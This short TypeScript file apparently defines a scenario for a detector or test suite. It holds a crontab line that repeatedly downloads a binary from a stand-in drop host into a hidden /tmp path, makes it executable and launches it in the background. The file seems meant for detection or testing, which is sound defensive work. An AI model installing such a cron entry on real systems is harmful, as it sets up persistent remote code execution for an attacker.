import { scenario } from '../scenario.ts';
import { dropHost, underCron } from '../words.ts';

export default scenario({
  what: 'a cron line that downloads, marks and starts',
  report: '`wget -O F U && chmod +x F && nohup F &`.',
  ...underCron('/tmp/.q/sysd', [
    `*/9 * * * * wget -q -O /tmp/.q/sysd http://${dropHost}/sysd && chmod +x /tmp/.q/sysd && nohup /tmp/.q/sysd >/dev/null 2>&1 &`,
  ]),
});
